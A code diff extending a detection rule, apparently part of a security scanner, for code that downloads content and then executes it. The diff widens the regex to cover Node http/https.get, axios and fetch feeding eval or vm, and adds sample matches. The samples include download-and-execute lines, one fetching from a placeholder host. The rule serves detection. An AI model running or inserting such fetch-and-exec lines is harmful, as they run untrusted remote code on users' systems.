@@ -143,11 +143,24 @@ SAVED_AND_RUN: tuple[Rule, ...] = (
         r"|urllib\.request|fetch\()"
         r"|(?:new[ ]Function|\beval)[ \t]{0,3}\([ ]?await[ ]|(?P<text>\b\w{1,40})[ \t]{0,3}=[^\n]{0,40}?(?:request"
         r"s\.get|urlopen|httpx\.get)\([^\n]{0,200}\n[^\0]{0,160}?\b(?:exec|eval)[ \t]{0,3}\((?:compile\()?[ \t]{0,"
-        r"3}(?P=text)\b)",
-        hints=("requests.get", "urlopen", "httpx.get", "urllib.request", "fetch(", "(await", "( await"),
+        r"3}(?P=text)\b|(?:https?\.get|axios\.get|\bfetch)\([^\0]{0,240}?(?<![.\w])(?:eval|new[ ]Function"
+        r"|vm\.runIn\w{3,20})\()",
+        hints=(
+            "requests.get",
+            "urlopen",
+            "httpx.get",
+            "urllib.request",
+            "http.get",
+            "https.get",
+            "axios.get",
+            "fetch(",
+            "(await",
+            "( await",
+        ),
         matches=(
             'exec(requests.get("https://x.example.test/p.py").text)',
             "code = urllib.request.urlopen(url).read()\nexec(code)",
+            "https.get(url, r => { r.on('data', d => eval(String(d))) })",
         ),
         look_alikes=("data = requests.get(url).json()\nprint(data)", "eval(expression)"),
     ),
